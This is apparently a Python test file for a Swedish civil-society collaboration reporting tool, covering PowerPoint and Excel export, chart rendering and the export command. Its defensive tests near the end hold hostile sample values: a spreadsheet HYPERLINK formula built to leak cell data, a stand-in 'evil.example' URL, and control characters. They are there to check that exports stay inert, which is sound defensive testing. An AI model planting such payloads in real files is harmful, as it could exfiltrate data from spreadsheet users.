"""Presenting: the story, the PowerPoint deck, the Excel report, chart images and `export` on the command
line. The deck's images are drawn by kaleido in Debian's Chromium, which `make test` installs."""

import datetime as dt
import io
import re
import zipfile

import openpyxl
import pandas as pd
import pytest
from conftest import DEMO_TODAY, activity_log, workbook_bytes
from kaleido.errors import KaleidoError
from pptx import Presentation
from pptx.enum.shapes import MSO_SHAPE_TYPE

from civsam import builders, images, queries
from civsam.audit import entries
from civsam.charts.base import with_title
from civsam.cli import main
from civsam.deck import deck_bytes
from civsam.demo import PEOPLE
from civsam.filters import Filters
from civsam.i18n import t
from civsam.importing import import_file
from civsam.presentation import build_story, direct_query, for_projector
from civsam.queries import source_facts
from civsam.report import report_bytes

YEAR = Filters(dt.date(2025, 1, 1), DEMO_TODAY)


@pytest.fixture(scope="module")
def deck_store(tmp_path_factory):
    from civsam.db import open_store
    from civsam.demo import seed_demo
    engine = open_store(f"sqlite:///{tmp_path_factory.mktemp('deck') / 'civsam.db'}")
    seed_demo(engine, 800, today=DEMO_TODAY)
    yield engine
    engine.dispose()


@pytest.fixture(scope="module")
def demo_deck(deck_store):
    story = build_story(YEAR, "sv", direct_query(deck_store))
    return story, deck_bytes(story, source_facts(deck_store))


def test_the_story_tells_the_main_charts_in_order(demo_deck):
    story, _ = demo_deck
    assert [chart.key for chart in story.charts] == [
        "frequency", "sector_comparison", "coverage_map", "county_comparison", "staff_gap", "ratio_trend",
        "top_partners", "weekday_heatmap", "agreement_activity", "survey_principles"]
    assert story.overview.summary.startswith("Under 2025 hade regionen")


def test_the_story_draws_each_chart_with_the_builder_the_pages_call(demo_deck, deck_store):
    story, _ = demo_deck
    query = direct_query(deck_store)
    shown = [builders.frequency, builders.sector_comparison, builders.municipality_coverage,
             builders.county_comparison, builders.staff_gap, builders.ratio_trend, builders.top_partners,
             builders.weekday_heatmap, builders.agreement_activity, builders.survey_principles]
    for chart, builder in zip(story.charts, shown, strict=True):
        drawn = builder(query, YEAR, "sv")
        assert (drawn.key, drawn.title, drawn.alt_text) == (chart.key, chart.title, chart.alt_text)
        pd.testing.assert_frame_equal(drawn.data, chart.data)


def test_the_deck_has_a_title_key_figures_a_slide_per_chart_and_a_closing_slide(demo_deck):
    story, content = demo_deck
    deck = Presentation(io.BytesIO(content))
    slides = list(deck.slides)
    assert len(slides) == len(story.charts) + 3 >= 6
    texts = [[shape.text_frame.text for shape in slide.shapes if shape.has_text_frame] for slide in slides]
    assert texts[0][0] == "Samverkan med civilsamhället" and "2025-01-01 – 2025-12-31" in texts[0][1]
    assert "Demodata" in texts[0][2]
    assert texts[-1][0] == "Om underlaget"
    for slide, chart in zip(slides[2:-1], story.charts, strict=True):
        pictures = [shape for shape in slide.shapes if shape.shape_type == MSO_SHAPE_TYPE.PICTURE]
        assert len(pictures) == 1 and pictures[0].image.size[0] >= 2000  # sharp: twice a screen's width
        assert pictures[0]._element.nvPicPr.cNvPr.get("descr") == chart.alt_text
        assert slide.shapes[0].text_frame.text == chart.title
        notes = slide.notes_slide.notes_text_frame.text
        assert chart.alt_text in notes and str(chart.data.columns[0]) in notes


def test_the_deck_counts_the_imports_the_import_page_lists_as_in_effect(demo_deck):
    _, content = demo_deck
    first, *_, last = Presentation(io.BytesIO(content)).slides
    assert "aktivitetsloggar (1 gällande import). Exporterad" in first.shapes[2].text_frame.text  # the demo fill
    assert "Hittills 1 gällande import, senast " in last.shapes[1].text_frame.text


def test_the_imports_in_effect_are_every_batch_not_undone_the_demo_fill_among_them(engine):
    from civsam.batches import list_batches, undo_batch
    from civsam.demo import seed_demo

    seed_demo(engine, 50, today=DEMO_TODAY)
    for day in ("2025-03-04", "2025-03-05", "2025-03-06"):
        batch = import_file(engine, activity_log([day, "Samforma", "civilsamhälle", "Umeå"]), f"{day}.xlsx").batch_id
    undo_batch(engine, batch)
    assert len(list_batches(engine)) == 4
    source = source_facts(engine)
    assert (source["imports"], source["activities"], source["demo"]) == (3, 52, True)
    assert t("sv", "imports_in_effect", count=source["imports"]) == "3 gällande importer"


def test_the_deck_has_a_slide_on_the_agreements(demo_deck):
    story, content = demo_deck
    slide = list(Presentation(io.BytesIO(content)).slides)[-3]
    assert slide.shapes[0].text_frame.text == story.charts[-2].title
    assert "Samforma" in slide.notes_slide.notes_text_frame.text


def test_the_agreements_slide_and_the_report_say_what_each_agreement_changed(demo_deck, deck_store):
    from civsam.effect import agreement_effects
    from civsam.narrative import effect_sentence
    from civsam.periods import today

    story, content = demo_deck
    effects = agreement_effects(deck_store, today())
    agreements = queries.read_frame(deck_store, "SELECT id, name, kind, signed FROM agreements ORDER BY name",
                                    dates=("signed",))
    partners = {"Avsiktsförklaring Samforma (demo)": ["Samforma"], "Avsiktsförklaring Youth Up North (demo)":
                ["Youth Up North"], "Överenskommelse Norrbotten (demo)": ["Coompanion Norrbotten", "Region Norrbotten"]}
    sentences = [effect_sentence(partners[row.name], row.kind, row.signed, effects[row.id], "sv")
                 for row in agreements.itertuples()]
    assert story.effects == sentences and len(sentences) == 3
    slide = list(Presentation(io.BytesIO(content)).slides)[-3]  # before the partner survey's and the last slide
    assert [shape.text_frame.text for shape in slide.shapes if shape.has_text_frame][-1] == "\n".join(sentences)
    assert slide.notes_slide.notes_text_frame.text.startswith("\n".join(sentences))
    sheet = story.tables["Före och efter avtalen"]
    assert list(sheet.columns) == ["Avtal", "Dagar före och efter", "Före", "Efter", "Kvot", "95\u00a0% KI",
                                   "Bedömning", "I ord"]
    assert sheet["I ord"].tolist() == sentences
    assert sheet["Före"].tolist() == [effects[agreement_id].before for agreement_id in agreements["id"]]


def test_the_deck_never_holds_a_persons_name(demo_deck):
    _, content = demo_deck
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        xml = " ".join(package.read(name).decode("utf-8", "ignore") for name in package.namelist()
                       if name.endswith(".xml"))
    assert "Samforma" in xml or "Almi" in xml or "Northvolt" in xml  # organisations are there …
    for name in PEOPLE:
        assert name not in xml  # … people are not


def test_the_report_has_a_sheet_per_chart_the_filters_and_frozen_headers(demo_deck):
    story, _ = demo_deck
    exported = dt.datetime(2026, 1, 15, 9, 30)
    workbook = openpyxl.load_workbook(io.BytesIO(report_bytes(story, {"activities": 800, "imports": 0,
                                                                      "last_import": None, "demo": True},
                                                               exported)))
    assert workbook.sheetnames == ["Om rapporten", "Nyckeltal", "Mötesfrekvens", "Sektorer", "Kommuner", "Län",
                                   "Personal", "Resursgap", "Partner", "Veckodagar", "Avtal", "Partnernas bild",
                                   "Åtaganden", "Före och efter avtalen"]
    commitments = [row for row in workbook["Åtaganden"].iter_rows(values_only=True)]
    assert len(commitments) > 5 and any("Samforma" in str(cell) for row in commitments for cell in row)
    about = [tuple(row) for row in workbook["Om rapporten"].iter_rows(values_only=True)]
    assert ("Period", "2025-01-01 – 2025-12-31") in about
    assert ("Urval", "Båda länen · alla sektorer") in about
    assert ("Exporterad", "2026-01-15 09:30") in about
    assert all(workbook[name].freeze_panes == "A2" for name in workbook.sheetnames)
    assert workbook["Kommuner"].max_row == 30  # a header and the 29 municipalities


def test_typed_text_never_becomes_a_formula_in_the_report(engine):
    log = activity_log(["2025-03-04", "-1 förening", "civilsamhälle", "Umeå"],
                       ["2025-03-05", "@SUM(A1)", "näringsliv", "Luleå"], ["2025-03-06", "+46 förening", "ideell",
                                                                            "Kiruna"])
    assert import_file(engine, log, "logg.xlsx").imported == 3
    story = build_story(YEAR, "sv", direct_query(engine))
    workbook = openpyxl.load_workbook(io.BytesIO(report_bytes(story, source_facts(engine))))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    partners = [row[0] for row in workbook["Partner"].iter_rows(min_row=2, values_only=True)]
    assert {"-1 förening", "@SUM(A1)", "+46 förening"} <= set(partners)


@pytest.mark.parametrize("image_format, start", [("png", b"\x89PNG"), ("svg", b"<svg")])
def test_a_chart_becomes_an_image(demo_deck, image_format, start):
    story, _ = demo_deck
    assert images.available()
    assert images.image(story.charts[0].figure, image_format).lstrip().startswith(start)


def test_a_missing_browser_is_explained_not_crashed(monkeypatch, demo_deck):
    story, _ = demo_deck

    def no_browser(*args, **kwargs):
        raise RuntimeError("no browser")
    monkeypatch.setattr(images.pio, "to_image", no_browser)
    with pytest.raises(images.ImagesUnavailable, match="Chromium"):
        images.image(story.charts[0].figure)


def test_projector_figures_have_large_type(demo_deck):
    story, _ = demo_deck
    large = for_projector(story.charts[0].figure)
    assert large.layout.font.size >= 20 and story.charts[0].figure.layout.font.size < 20


def test_numbers_beside_bars_get_room_in_projector_type(demo_deck):
    story, _ = demo_deck
    page = next(chart.figure for chart in story.charts if chart.key == "top_partners")
    large = for_projector(page)
    assert page.data[0].cliponaxis is False  # drawn past the plot area, into the right margin
    assert page.layout.margin.r < large.layout.margin.r


@pytest.mark.parametrize("export_format", ["pptx", "xlsx"])
def test_export_on_the_command_line(demo_engine, tmp_path, monkeypatch, capsys, export_format):
    monkeypatch.setenv("CIVSAM_DATABASE_URL", str(demo_engine.url))
    out = tmp_path / f"ut.{export_format}"
    assert main(["export", export_format, str(out), "--from", "2025-01-01", "--to", "2025-06-30",
                 "--county", "Norrbotten"]) == 0
    assert out.stat().st_size > 5000
    assert "2025-01-01 – 2025-06-30" in capsys.readouterr().out


def test_an_export_never_overwrites_unasked_never_follows_a_link_and_is_logged_with_its_full_path(
        demo_engine, tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("CIVSAM_DATABASE_URL", str(demo_engine.url))
    folder = tmp_path / "ut"
    folder.mkdir()
    monkeypatch.chdir(folder)
    kept = folder / "viktig.xlsx"
    kept.write_bytes(b"ska sta kvar")
    (folder / "länk.xlsx").symlink_to(kept)
    (folder / "länk-till-inget.xlsx").symlink_to(folder / "skapas-inte.xlsx")
    for out in ("viktig.xlsx", "länk.xlsx", "länk-till-inget.xlsx"):
        assert main(["export", "xlsx", out]) == 2
        refusal = capsys.readouterr().err
        assert "finns redan" in refusal and "--force" in refusal
    assert kept.read_bytes() == b"ska sta kvar" and not (folder / "skapas-inte.xlsx").exists()
    assert main(["export", "xlsx", "länk.xlsx", "--force"]) == 0  # the link is replaced, not what it points to
    assert kept.read_bytes() == b"ska sta kvar" and not (folder / "länk.xlsx").is_symlink()
    assert zipfile.is_zipfile(folder / "länk.xlsx")
    assert main(["export", "xlsx", "viktig.xlsx", "--force"]) == 0 and zipfile.is_zipfile(kept)
    logged = entries(demo_engine)
    assert logged[logged["action"] == "export"]["detail"].str.startswith(str(kept)).any()
    assert sorted(path.name for path in folder.iterdir()) == [
        "länk-till-inget.xlsx", "länk.xlsx", "viktig.xlsx"]  # no file half-written or left behind


def test_export_refuses_a_period_that_ends_before_it_starts(demo_engine, tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("CIVSAM_DATABASE_URL", str(demo_engine.url))
    assert main(["export", "xlsx", str(tmp_path / "ut.xlsx"), "--from", "2025-12-01", "--to", "2025-01-01"]) == 2
    assert "--from ligger efter --to" in capsys.readouterr().err


def test_export_refuses_a_date_it_cannot_read(demo_engine, tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("CIVSAM_DATABASE_URL", str(demo_engine.url))
    with pytest.raises(SystemExit) as exit_:
        main(["export", "xlsx", str(tmp_path / "ut.xlsx"), "--from", "2025-13-01"])
    assert exit_.value.code == 2 and "2025-13-01 är inget datum" in capsys.readouterr().err


def test_export_of_an_empty_store_says_what_to_do(engine, tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("CIVSAM_DATABASE_URL", str(engine.url))
    assert main(["export", "pptx", str(tmp_path / "ut.pptx")]) == 2
    assert "Importera en logg" in capsys.readouterr().err


def test_the_key_figures_of_a_tertial_are_set_against_the_same_tertial_last_year(demo_engine):
    tertial = Filters(dt.date(2025, 5, 1), dt.date(2025, 8, 31), comparison="fjol")
    query = direct_query(demo_engine)
    story = build_story(tertial, "sv", query)
    assert story.overview.before == query(queries.key_figures, Filters(dt.date(2024, 5, 1), dt.date(2024, 8, 31)))
    assert story.overview.summary.endswith("samma period i fjol.")
    key_figures = list(Presentation(io.BytesIO(deck_bytes(story, source_facts(demo_engine)))).slides)[1]
    assert "(samma period i fjol: " in key_figures.notes_slide.notes_text_frame.text
    assert "jämfört med samma period i fjol (2024-05-01 – 2024-08-31)" in [
        shape.text_frame.text for shape in key_figures.shapes if shape.has_text_frame]
    report = openpyxl.load_workbook(io.BytesIO(report_bytes(story, source_facts(demo_engine))))
    assert ("Jämför med", "Samma period i fjol (2024-05-01 – 2024-08-31)") in [
        tuple(row) for row in report["Om rapporten"].iter_rows(values_only=True)]
    assert [cell.value for cell in report["Nyckeltal"][1]] == [None, "Perioden", "Samma period i fjol"]


def test_export_takes_a_period_preset_and_an_activity_type(demo_engine, tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("CIVSAM_DATABASE_URL", str(demo_engine.url))
    out = tmp_path / "ut.xlsx"
    assert main(["export", "xlsx", str(out), "--period", "2025T2", "--type", "Möte", "--type", "Dialog"]) == 0
    about = [tuple(row) for row in openpyxl.load_workbook(out)["Om rapporten"].iter_rows(values_only=True)]
    assert ("Period", "2025-05-01 – 2025-08-31") in about
    assert ("Urval", "Båda länen · alla sektorer · Möte, Dialog") in about


@pytest.mark.parametrize("arguments, message", [
    (["--period", "2025T4"], "2025T4 är ingen period"),
    (["--from", "0001-01-01"], "0001-01-01 ligger utanför åren 2000–2100"),
])
def test_export_refuses_a_period_it_cannot_read(demo_engine, tmp_path, monkeypatch, capsys, arguments, message):
    monkeypatch.setenv("CIVSAM_DATABASE_URL", str(demo_engine.url))
    with pytest.raises(SystemExit) as exit_:
        main(["export", "xlsx", str(tmp_path / "ut.xlsx"), *arguments])
    assert exit_.value.code == 2 and message in capsys.readouterr().err


def test_export_takes_a_preset_or_dates_not_both(demo_engine, tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("CIVSAM_DATABASE_URL", str(demo_engine.url))
    assert main(["export", "xlsx", str(tmp_path / "ut.xlsx"), "--period", "2025", "--from", "2025-02-01"]) == 2
    assert "antingen --period eller --from" in capsys.readouterr().err


URL_NAMED = "https://evil.example/login"
LEAK = '=HYPERLINK("http://127.0.0.1:9/?leak="&A2,"Klicka")'
CONTROL_CHARACTER = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")


@pytest.fixture
def hostile_store(tmp_path, monkeypatch):
    """A store whose names a hostile user chose: an organisation named as a web address, an agreement named as a
    formula (as a text cell; openpyxl here would write a formula), and control characters that a store written
    before migration 0007, or by hand, may still hold."""
    from civsam.db import open_store, write_transaction
    url = f"sqlite:///{tmp_path / 'civsam.db'}"
    monkeypatch.setenv("CIVSAM_DATABASE_URL", url)
    engine = open_store(url)
    content = workbook_bytes({
        "Organisationer": [["Organisation", "Sektor"], [URL_NAMED, "Civilsamhälle"], ["Förening", "Civilsamhälle"]],
        "Avtal": [["Namn", "Typ", "Part", "Undertecknat"], ["IOP", "IOP", URL_NAMED, dt.date(2025, 1, 10)]],
        "Aktiviteter": [["Datum", "Organisation", "Kommun", "Avtal", "Typ"],
                        *[[dt.date(2025, 3, day), URL_NAMED, "Umeå", "IOP", "Möte"] for day in range(1, 4)],
                        [dt.date(2025, 3, 9), "Förening", "Luleå", "", "Besök"]]})
    assert import_file(engine, content, "logg.xlsx").rejected == []
    with write_transaction(engine) as connection:
        connection.exec_driver_sql("UPDATE organisations SET name = ? WHERE name = 'Förening'",
                                   ("Förening\x1b[31m\x00",))
        connection.exec_driver_sql("UPDATE agreements SET name = ?", (LEAK + "\x07",))  # a text cell in Excel
        connection.exec_driver_sql("UPDATE activities SET type = 'Besök\x1b' WHERE type = 'Besök'")
    engine.dispose()
    return tmp_path


def test_a_report_of_hostile_names_holds_no_formula_and_no_control_character(hostile_store, capsys):
    out = hostile_store / "rapport.xlsx"
    assert main(["export", "xlsx", str(out), "--from", "2025-01-01", "--to", "2025-12-31"]) == 0, capsys.readouterr()
    workbook = openpyxl.load_workbook(out)
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not [cell.value for cell in cells if isinstance(cell.value, str) and CONTROL_CHARACTER.search(cell.value)]
    assert LEAK in [cell.value for cell in workbook["Avtal"][1]]  # the agreement's column, as text
    assert "Förening[31m" in [row[0] for row in workbook["Partner"].iter_rows(min_row=2, values_only=True)]


def test_a_deck_of_hostile_names_holds_no_link_and_no_control_character(hostile_store, capsys):
    """python-pptx writes a title as a plain run: a web address stays text (PowerPoint and LibreOffice do not
    autocorrect a file they open), and a control character, which the slide's XML cannot hold, is left out."""
    out = hostile_store / "deck.pptx"
    assert main(["export", "pptx", str(out), "--from", "2025-01-01", "--to", "2025-12-31"]) == 0, capsys.readouterr()
    with zipfile.ZipFile(out) as package:
        parts = {name: package.read(name).decode() for name in package.namelist() if name.endswith(".xml")}
    assert not [name for name, xml in parts.items() if "hlinkClick" in xml or "hlinkHover" in xml]
    assert not [name for name, xml in parts.items() if CONTROL_CHARACTER.search(xml) or "_x00" in xml]
    titles = [slide.shapes[0].text_frame.text for slide in Presentation(out).slides]
    assert any(URL_NAMED in title for title in titles)
    assert not [rels for name, rels in parts.items() if name.endswith(".rels") and "evil.example" in rels]


def test_an_image_of_a_chart_titled_with_control_characters_is_drawn(demo_deck):
    """plotly.js stops drawing at a control character in a title, which was reported as a missing browser."""
    figure = with_title(demo_deck[0].charts[0].figure, "Förening\x1b[31m\x00 träffas oftast")
    assert images.image(figure).startswith(b"\x89PNG")


def test_a_figure_the_browser_cannot_draw_is_not_blamed_on_a_missing_browser(monkeypatch, demo_deck):
    def refused(*args, **kwargs):
        raise KaleidoError(525, "plotly.js error")
    monkeypatch.setattr(images.pio, "to_image", refused)
    with pytest.raises(images.ImagesUnavailable) as refusal:
        images.image(demo_deck[0].charts[0].figure)
    assert "Chromium" not in str(refusal.value) and "kunde inte ritas" in str(refusal.value)
